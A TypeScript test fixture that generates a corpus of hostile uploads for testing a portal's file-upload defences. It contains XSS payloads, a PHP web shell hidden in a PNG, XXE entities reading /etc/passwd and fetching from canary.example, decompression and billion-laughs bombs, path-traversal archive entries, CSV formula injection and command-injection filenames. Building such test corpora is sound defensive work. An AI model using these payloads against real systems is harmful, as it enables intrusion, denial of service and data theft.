import { crc32, deflateSync, gzipSync } from 'node:zlib';
import { PDFName, PDFString } from '@cantoo/pdf-lib';
import { unzipSync } from 'fflate';
import sharp from 'sharp';
import { aPdf, arm, macroTypes, odtParts, relations, wordParts, zip } from '#tests/factories/documents';

/** A file as somebody would send it. @property harmless that it is what it says, and may be taken as it is */
export type Hostile = { what: string; name: string; type: string; bytes: Uint8Array; harmless?: true };

const RUN = '<script>alert(1)</script>';
const MB = 1024 * 1024;
const buffer = (text: string) => Buffer.from(text, 'latin1');
const join = (...parts: (Uint8Array | string)[]) => Buffer.concat(parts.map((part) => (typeof part === 'string' ? buffer(part) : part)));
const XML = '<?xml version="1.0" encoding="UTF-8"?>';

function chunk(type: string, data: Uint8Array): Buffer {
  const body = join(type, data);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return join(length, body, sum);
}

/** A PNG by its parts, so that it can say what it is not. */
function png(width: number, height: number, packed: Uint8Array, ...more: Buffer[]): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  return join('\u0089PNG\r\n\u001a\n', chunk('IHDR', head), ...more, chunk('IDAT', packed), chunk('IEND', Buffer.alloc(0)));
}

/** The size that a ZIP says of its first part, changed. */
function lying(bytes: Uint8Array, size: number): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeUInt32LE(size, 22);
  const list = copy.indexOf('PK\u0001\u0002', 0, 'latin1');
  copy.writeUInt32LE(size, list + 24);
  return copy;
}

/** The mark that a ZIP's parts are locked by a password. */
function locked(bytes: Uint8Array): Buffer {
  const copy = Buffer.from(bytes);
  copy[6] = 1;
  copy[copy.indexOf('PK\u0001\u0002', 0, 'latin1') + 8] = 1;
  return copy;
}

const LAUGHS = `<!DOCTYPE x [<!ENTITY a "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>`;
const READS = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://canary.example/p.dtd"> %p;]>';

/** The parts of a workbook with one sheet. */
const sheetParts = (sheet: string, more: Record<string, string | Uint8Array> = {}): Record<string, string | Uint8Array> => ({
  '[Content_Types].xml': `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`,
  '_rels/.rels': relations(['rId1', 'officeDocument', 'xl/workbook.xml']),
  'xl/_rels/workbook.xml.rels': relations(['rId1', 'worksheet', 'worksheets/sheet1.xml']),
  'xl/workbook.xml': `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>`,
  'xl/worksheets/sheet1.xml': `${XML}${sheet}`,
  ...more,
});
const sheet = (rows: string, before = '') => `${before}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;
const cell = (at: string, text: string) => `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`;

async function pictures(): Promise<Hostile[]> {
  const plain = sharp({ create: { width: 40, height: 30, channels: 3, background: '#264' } });
  const [jpeg, small, webp, gif, tiff] = await Promise.all([plain.clone().jpeg().toBuffer(), plain.clone().png().toBuffer(), plain.clone().webp().toBuffer(), plain.clone().gif().toBuffer(), plain.clone().tiff().toBuffer()]);
  const frames = await sharp(Buffer.alloc(40 * 60 * 3, 99), { raw: { width: 40, height: 60, channels: 3, pageHeight: 30 } }).webp({ loop: 0, delay: [50, 50] }).toBuffer();
  const gps = await plain.clone().withExif({ IFD0: { ImageDescription: RUN, Copyright: '<?php system(1) ?>' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '60/1 10/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '24/1 56/1 0/1' } }).jpeg().toBuffer();
  const webpExif = await plain.clone().withExif({ IFD0: { ImageDescription: RUN } }).webp().toBuffer();
  const comment = join(jpeg.subarray(0, 2), '\u00ff\u00fe', Buffer.from([0, RUN.length + 2]), RUN, jpeg.subarray(2));
  const bits = deflateSync(Buffer.alloc(4001 * 30_000));
  const of = (what: string, name: string, type: string, bytes: Uint8Array, harmless?: true): Hostile => ({ what, name, type, bytes, harmless });
  return [
    of('a JPEG', 'kuva.jpg', 'image/jpeg', jpeg, true),
    of('a PNG', 'kuva.png', 'image/png', small),
    of('a WebP called otherwise', 'kuva.txt', 'text/html', webp),
    of('a GIF', 'kuva.gif', 'image/gif', gif),
    of('a GIF that is JavaScript', 'kuva.gif', 'image/gif', buffer('GIF89a/*\u0001\u0000\u0001\u0000*/=1;alert(1);')),
    of('a GIF with a page behind it', 'kuva.png', 'image/png', join(gif, RUN)),
    of('a JPEG with a page behind it', 'kuva.jpg', 'image/jpeg', join(jpeg, `<html>${RUN}`)),
    of('a JPEG with a ZIP behind it', 'kuva.jpg', 'image/jpeg', join(jpeg, zip({ 'x.html': RUN }))),
    of('a JPEG whose comment is a script', 'kuva.jpg', 'image/jpeg', comment),
    of('a JPEG of where and whose', 'kuva.jpg', 'image/jpeg', gps),
    of('a JPEG in a page', 'kuva.html', 'text/html', join(RUN, jpeg)),
    of('a PDF in a JPEG', 'kuva.jpg', 'image/jpeg', join(jpeg, '%PDF-1.4\n1 0 obj<</S/JavaScript/JS(alert(1))>>')),
    of('a PNG with text', 'kuva.png', 'image/png', join(small.subarray(0, 33), chunk('tEXt', buffer(`Comment\u0000${RUN}`)), chunk('iTXt', buffer(`XML:com.adobe.xmp\u0000\u0000\u0000\u0000\u0000${RUN}`)), small.subarray(33))),
    of('a PNG whose text is a bomb', 'kuva.png', 'image/png', join(small.subarray(0, 33), chunk('zTXt', join('x\u0000\u0000', deflateSync(Buffer.alloc(150 * MB)))), small.subarray(33))),
    of('a PNG whose profile is a bomb', 'kuva.png', 'image/png', join(small.subarray(0, 33), chunk('iCCP', join('x\u0000\u0000', deflateSync(Buffer.alloc(150 * MB)))), small.subarray(33))),
    of('a PNG with a program behind it', 'kuva.php', 'image/png', join(small, '<?php system($_GET[0]) ?>')),
    of('a PNG of a billion pixels', 'kuva.png', 'image/png', png(32_000, 30_000, bits)),
    of('a PNG that says it is vast', 'kuva.png', 'image/png', png(0x7fffffff, 0x7fffffff, deflateSync(Buffer.alloc(10)))),
    of('a PNG of no size', 'kuva.png', 'image/png', png(0, 0, deflateSync(Buffer.alloc(10)))),
    of('a PNG that is a line', 'kuva.png', 'image/png', png(1, 60_000, deflateSync(Buffer.alloc(120_000)))),
    of('a PNG without its end', 'kuva.png', 'image/png', small.subarray(0, small.length - 30)),
    of('a JPEG without its end', 'kuva.jpg', 'image/jpeg', jpeg.subarray(0, jpeg.length >> 1)),
    of('a WebP without its end', 'kuva.webp', 'image/webp', webp.subarray(0, webp.length - 12)),
    of('a WebP that moves', 'kuva.webp', 'image/webp', frames),
    of('a WebP with a script', 'kuva.webp', 'image/webp', webpExif),
    of('a PNG that moves', 'kuva.png', 'image/png', join(small.subarray(0, 33), chunk('acTL', Buffer.from([0, 0, 0, 9, 0, 0, 0, 0])), small.subarray(33))),
    of('an SVG with a script', 'kuva.svg', 'image/svg+xml', buffer(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${RUN}</svg>`)),
    of('an SVG called PNG', 'kuva.png', 'image/png', buffer(`${XML}<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)),
    of('an SVG that reads', 'kuva.svg', 'image/svg+xml', buffer(`${XML}${READS}<svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text><image href="file:///etc/passwd"/></svg>`)),
    of('an SVG, packed', 'kuva.svgz', 'image/svg+xml', gzipSync(`<svg onload="alert(1)"/>`)),
    of('a TIFF', 'kuva.tif', 'image/tiff', tiff),
    of('a BMP', 'kuva.bmp', 'image/bmp', join('BM', Buffer.alloc(60))),
    of('an icon', 'favicon.ico', 'image/x-icon', join('\u0000\u0000\u0001\u0000\u0001\u0000', Buffer.alloc(60))),
    of('a PostScript file', 'kuva.eps', 'image/jpeg', buffer('%!PS-Adobe\n(%pipe%id) (r) file')),
    of('an ImageMagick script', 'kuva.mvg', 'image/png', buffer('push graphic-context\nfill \'url(https://canary.example/x"|id")\'\npop graphic-context')),
    of('a first line of a JPEG alone', 'kuva.jpg', 'image/jpeg', jpeg.subarray(0, 3)),
    of('11 MB of picture', 'kuva.jpg', 'image/jpeg', join(jpeg, Buffer.alloc(11 * MB))),
  ];
}

async function documents(): Promise<Hostile[]> {
  const pdf = Buffer.from(await aPdf());
  const inPdf = async (what: string, change: Parameters<typeof aPdf>[0], name = 'raportti.pdf'): Promise<Hostile> => ({ what, name, type: 'application/pdf', bytes: await aPdf(change) });
  const of = (what: string, name: string, bytes: Uint8Array, harmless?: true): Hostile => ({ what, name, type: 'application/octet-stream', bytes, harmless });
  const bomb = Buffer.alloc(300 * MB, 65);
  const word = (more: Record<string, string | Uint8Array>) => zip(wordParts(more));
  const book = (rows: string, before?: string, more?: Record<string, string | Uint8Array>) => zip(sheetParts(sheet(rows, before), more));
  const body = (inside: string, before = '') => `${XML}${before}<w:document xmlns:w="w" xmlns:r="r"><w:body><w:p><w:r><w:t>${inside}</w:t></w:r></w:p></w:body></w:document>`;
  const old = join('\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1', Buffer.alloc(2000));
  return [
    of('a PDF', 'raportti.pdf', pdf, true),
    await inPdf('a PDF that acts, launches and carries', arm),
    await inPdf('a PDF that is locked', (file) => void (file.context.trailerInfo.Encrypt = file.context.obj({ Filter: 'Standard', V: 2, R: 3, Length: 128, P: -44, O: PDFString.of('x'.repeat(32)), U: PDFString.of('x'.repeat(32)) }))),
    await inPdf('a PDF whose page is a bomb', (file) => void file.getPage(0).node.set(PDFName.of('Contents'), file.context.register(file.context.flateStream(bomb)))),
    await inPdf('a PDF whose pages lead to themselves', (file) => void file.catalog.Pages().set(PDFName.of('Kids'), file.context.obj([file.catalog.get(PDFName.of('Pages')) as never]))),
    await inPdf('a PDF without pages', (file) => file.removePage(0)),
    await inPdf('a PDF that opens another', (file) => void file.catalog.set(PDFName.of('OpenAction'), file.context.obj({ S: 'GoToR', F: PDFString.of('\\\\canary.example\\share') }))),
    of('a PDF without its end', 'raportti.pdf', pdf.subarray(0, pdf.length >> 1)),
    of('a page before a PDF', 'raportti.pdf', join(RUN, pdf)),
    of('a PDF with a page behind it', 'raportti.html', join(pdf, `<html>${RUN}`)),
    of('a PDF with a ZIP behind it', 'raportti.pdf', join(pdf, zip({ 'x.html': RUN }))),
    of('the first line of a PDF alone', 'raportti.pdf', buffer('%PDF-1.7')),
    of('a Word document', 'muistio.docx', word({})),
    of('macros', 'muistio.docm', word({ '[Content_Types].xml': macroTypes(), 'word/vbaProject.bin': 'x' })),
    of('macros, called otherwise', 'muistio.docx', word({ 'word/vbaProject.bin': 'x' })),
    of('a template from elsewhere', 'muistio.docx', word({ 'word/_rels/settings.xml.rels': relations(['rId1', 'attachedTemplate', 'https://canary.example/t.dotm', true]), 'word/settings.xml': `${XML}<w:settings xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="rId1"/></w:settings>` })),
    of('a picture from elsewhere', 'muistio.docx', word({ 'word/_rels/document.xml.rels': relations(['rId1', 'image', 'https://canary.example/i.png', true]) })),
    of('a link that runs', 'muistio.docx', word({ 'word/_rels/document.xml.rels': relations(['rId1', 'hyperlink', 'javascript:alert(1)', true]) })),
    of('a frame from elsewhere', 'muistio.docx', word({ 'word/_rels/document.xml.rels': relations(['rId1', 'frame', 'http://canary.example/', true]) })),
    of('another file within', 'muistio.docx', word({ 'word/_rels/document.xml.rels': relations(['rId1', 'oleObject', 'embeddings/x.bin']), 'word/embeddings/x.bin': 'MZ' })),
    of('an entity that reads', 'muistio.docx', word({ 'word/document.xml': body('&e;', READS) })),
    of('a billion laughs', 'muistio.docx', word({ 'word/document.xml': body('&j;', LAUGHS) })),
    of('a Word bomb', 'muistio.docx', word({ 'word/document.xml': bomb })),
    of('parts that lead out', 'muistio.docx', word({ '../../../../tmp/aukio-out.txt': 'x', '/etc/aukio-out': 'x', 'C:\\aukio-out': 'x' })),
    of('ten thousand parts', 'muistio.docx', zip({ ...wordParts(), ...Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`word/p${i}.xml`, '<x/>'])) })),
    of('a ZIP within a ZIP', 'x.zip', zip({ 'a.zip': zip({ 'b.zip': zip({ 'c.txt': bomb }) }) })),
    of('a ZIP that says it is small', 'muistio.docx', lying(word({}), 1)),
    of('a ZIP that says it is vast', 'muistio.docx', lying(word({}), 0xfffffffe)),
    of('a ZIP that is locked', 'muistio.docx', locked(word({}))),
    of('a ZIP without its end', 'muistio.docx', word({}).subarray(0, 400)),
    of('a page behind a ZIP', 'muistio.docx', join(word({}), RUN)),
    of('a ZIP of a page', 'x.zip', zip({ 'index.html': RUN })),
    of('a Java archive', 'x.jar', zip({ 'META-INF/MANIFEST.MF': 'Main-Class: X', 'X.class': '\u00ca\u00fe' })),
    of('a document of before 2007', 'muistio.doc', old),
    of('a document under a password', 'muistio.docx', join(old, Buffer.from('EncryptedPackage', 'utf16le'))),
    of('a workbook', 'taulukko.xlsx', book(`<row r="1">${cell('A1', 'Otsikko')}</row>`)),
    of('formulas', 'taulukko.xlsx', book('<row r="1"><c r="A1"><f>HYPERLINK("https://canary.example/f","x")</f><v>1</v></c><c r="B1"><f>WEBSERVICE("http://canary.example")</f></c></row>')),
    of('a workbook that reads', 'taulukko.xlsx', book(`<row r="1">${cell('A1', '&e;')}</row>`, READS)),
    of('a workbook that laughs', 'taulukko.xlsx', book(`<row r="1">${cell('A1', '&j;')}</row>`, LAUGHS)),
    of('a workbook of others', 'taulukko.xlsx', book('', '', { 'xl/_rels/workbook.xml.rels': relations(['rId1', 'worksheet', 'worksheets/sheet1.xml'], ['rId2', 'externalLink', 'externalLinks/e.xml']), 'xl/externalLinks/e.xml': '<x/>', 'xl/externalLinks/_rels/e.xml.rels': relations(['rId1', 'externalLinkPath', 'file:///etc/passwd', true]) })),
    of('a workbook bomb', 'taulukko.xlsx', zip(sheetParts('', { 'xl/worksheets/sheet1.xml': bomb }))),
    of('a bomb of shared texts', 'taulukko.xlsx', book('', '', { 'xl/sharedStrings.xml': bomb })),
    of('a workbook 16,384 columns wide', 'taulukko.xlsx', book(`<row r="1">${Array.from({ length: 16_384 }, (_, i) => `<c><v>${i}</v></c>`).join('')}</row>`)),
    of('a cell in a far row', 'taulukko.xlsx', book(`<row r="1048576">${cell('XFD1048576', 'x')}</row><row r="99999999999">${cell('ZZZZZZ9', 'x')}</row>`)),
    of('a text', 'ohje.odt', zip(odtParts())),
    of('a text with macros', 'ohje.odt', zip(odtParts({ 'Basic/Standard/x.xml': '<x/>' }))),
    of('a text that reads', 'ohje.odt', zip(odtParts({ 'content.xml': `${XML}<office:document-content xmlns:office="o" xmlns:text="t" xmlns:xlink="x"><text:section-source xlink:href="file:///etc/passwd"/></office:document-content>` }))),
    of('a text with a program', 'ohje.odt', zip(odtParts({ 'content.xml': `${XML}<office:document-content xmlns:office="o" xmlns:script="s"><script:event-listener script:language="Basic"/></office:document-content>` }))),
  ];
}

function texts(): Hostile[] {
  const of = (what: string, name: string, bytes: Uint8Array | string, harmless?: true): Hostile => ({ what, name, type: 'text/plain', bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes, harmless });
  return [
    of('a table', 'luvut.csv', 'vuosi;arvo\n2025;12\n'),
    of('a table of formulas', 'luvut.csv', `a;b\n=cmd|'/C calc'!A0;@SUM(1)\n+1+cmd;-1+cmd\n`),
    of('a very wide table', 'luvut.csv', `${'a;'.repeat(200_000)}\n${'1;'.repeat(200_000)}\n`),
    of('a table of bytes', 'luvut.csv', Buffer.from(Array.from({ length: 4000 }, (_, i) => (i * 7919) % 256))),
    of('a table of commas and NUL', 'luvut.csv', 'a;b\n\u0000;\u0000\n'),
    of('a page', 'ohje.txt', `<!doctype html>${RUN}`),
    of('a page, called so', 'ohje.html', `\ufeff\n <html>${RUN}`),
    of('a script', 'ohje.js', '#!/usr/bin/env node\nalert(1)'),
    of('a style sheet', 'ohje.css', '@import url(//canary.example/x.css); body { background: red }'),
    of('a program for Windows', 'ohje.exe', join('MZ', Buffer.alloc(300))),
    of('a program for Linux', 'ohje', join('\u007fELF', Buffer.alloc(300))),
    of('rich text', 'ohje.rtf', '{\\rtf1{\\object\\objdata 0105}}'),
    of('text that turns around', 'ohje.txt', 'käyttö\u202etxt.exe\u2066'),
    of('text of another coding', 'ohje.txt', Buffer.from('\ufeff<script>alert(1)</script>', 'utf16le')),
    of('one line of five megabytes', 'ohje.txt', 'a'.repeat(5 * MB)),
    of('nothing', 'tyhja.pdf', ''),
    of('blanks', 'tyhja.txt', ' \n\t\n'),
    of('eleven megabytes', 'suuri.txt', 'rivi\n'.repeat(2.3 * MB)),
    of('more than anything takes', 'suuri.pdf', Buffer.alloc(14 * MB, 37)),
    of('an address to go to', 'ohje.url', '[InternetShortcut]\nURL=file:///etc/passwd\n'),
    of('settings of a server', '.htaccess', 'AddType text/html .txt\n'),
  ];
}

const NAMES = [
  '../../../../tmp/aukio-out.pdf', '..\\..\\aukio-out.pdf', '/etc/aukio-out.pdf', 'C:\\aukio-out.pdf', 'a\u0000b.pdf', 'a%00b.pdf', 'kuva\u202efdp.exe', 'CON.pdf', 'nul', 'aux.pdf.', '.pdf', '..', '-rf.pdf', '$(id).pdf', '`id`.pdf', 'a;id|cat.pdf',
  `${'pitkä'.repeat(900)}.pdf`, 'a\r\nX-Injected: 1.pdf', '<img src=x onerror=alert(1)>.pdf', '"; filename="evil.html', "a'; DROP TABLE x;--.pdf", 'a.pdf::$DATA', 'a.pdf.exe', 'a.html', 'a\u2028b.pdf', 'a\u200b.pdf', '／etc／passwd.pdf', '👩‍👩‍👧‍👦.pdf', '__proto__', 'a%2f..%2fb.pdf', ' ', '',
];

/** A workbook that the portal gave, and what somebody made of it. */
function sentBack(own: Uint8Array): Hostile[] {
  const of = (what: string, bytes: Uint8Array): Hostile => ({ what, name: 'taulukko.xlsx', type: 'application/octet-stream', bytes });
  const parts = unzipSync(own);
  const sheets = (change: (xml: string) => string) => zip({ ...parts, ...Object.fromEntries(Object.entries(parts).filter(([part]) => /sheets?\/[^/]*\.xml$|sharedStrings/.test(part)).map(([part, xml]) => [part, Buffer.from(change(Buffer.from(xml).toString()))])) });
  return [
    { ...of('a workbook of ours', own), harmless: true },
    of('our workbook with macros', zip({ ...parts, 'xl/vbaProject.bin': 'x' })),
    of('our workbook that reads', sheets((xml) => xml.replace(/(<\?xml[^>]*\?>)?/, `$1${READS}`).replace(/<t([^>]*)>[^<]*/g, '<t$1>&e;'))),
    of('our workbook that laughs', sheets((xml) => xml.replace(/(<\?xml[^>]*\?>)?/, `$1${LAUGHS}`).replace(/<t([^>]*)>[^<]*/g, '<t$1>&j;'))),
    of('our workbook with scripts', sheets((xml) => xml.replace(/<t([^>]*)>([^<]* [^<]*)/g, '<t$1>&lt;script>alert(1)&lt;/script>$2'))),
    of('our workbook with formulas', sheets((xml) => xml.replace(/<v>/g, '<f>HYPERLINK("https://canary.example/f")</f><v>'))),
    of('our workbook with a far row', sheets((xml) => xml.replace('</sheetData>', `<row r="99999999999">${cell('ZZZZZZ9', 'x')}</row></sheetData>`))),
    of('our workbook a million times over', sheets((xml) => xml.replace('</sheetData>', `${'<row><c><v>1</v></c></row>'.repeat(1_000_000)}</sheetData>`))),
    of('our workbook without its end', own.subarray(0, own.length >> 1)),
  ];
}

/** All of it: about a hundred files and ways of calling one. @param own a workbook of the portal's own, which it takes back */
export async function uploadCorpus(own: Uint8Array): Promise<Hostile[]> {
  const pdf = await aPdf();
  const named = NAMES.map((name): Hostile => ({ what: `a PDF called ${JSON.stringify(name.slice(0, 40))}`, name, type: 'application/pdf', bytes: pdf }));
  return [...(await pictures()), ...(await documents()), ...texts(), ...sentBack(own), ...named];
}
